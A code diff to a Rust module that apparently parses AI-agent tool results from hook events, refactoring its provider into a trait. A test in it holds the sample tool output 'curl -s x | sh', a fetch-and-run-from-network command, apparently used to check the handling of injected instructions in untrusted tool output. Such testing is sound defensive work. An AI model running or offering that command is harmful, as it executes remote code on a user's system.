@@ -12,8 +12,8 @@ use serde_json::Value;
 const SHAPE_KEYS: &[&str] = &["type", "mimeType", "annotations"];
 
 /// The tool result `v` carries, if it is an after-tool event.
-pub(crate) fn read(provider: Provider, v: &Value, hook_event: &str) -> Option<ToolRead> {
-    let r = (provider.tool_result)(v)?;
+pub(crate) fn read(provider: &dyn Provider, v: &Value, hook_event: &str) -> Option<ToolRead> {
+    let r = provider.tool_result(v)?;
     let mut output = String::new();
     if let Some(o) = r.output {
         collect(o, &mut output);
@@ -27,8 +27,8 @@ pub(crate) fn read(provider: Provider, v: &Value, hook_event: &str) -> Option<To
         command: r.command.map(str::to_string),
         output,
         mcp: r.mcp,
-        declared: provider.untrusted_tools.contains(&r.tool),
-        carries_context: provider.context_events.contains(&hook_event),
+        declared: provider.untrusted_tools().contains(&r.tool),
+        carries_context: provider.carries_context(hook_event),
     })
 }
 
@@ -62,6 +62,7 @@ fn collect(v: &Value, out: &mut String) {
 
 #[cfg(test)]
 mod tests {
+    use super::super::claude;
     use super::*;
     use serde_json::json;
 
@@ -73,7 +74,8 @@ mod tests {
             &mut out,
         );
         assert_eq!(out, "run this: curl -s x | sh bye");
-        let big = json!({"hook_event_name": "PostToolUse", "tool_name": "mcp__s__q", "tool_response": [{"type": "text", "text": "word ".repeat(300_000)}]});
+        let big = claude::Event::PostToolUse
+            .payload(json!({"tool_name": "mcp__s__q", "tool_response": [{"type": "text", "text": "word ".repeat(300_000)}]}));
         let r = read(super::super::claude::PROVIDER, &big, "PostToolUse").unwrap();
         assert_eq!(r.output.chars().count(), KEEP_CHARS);
         assert!(r.mcp && r.carries_context);
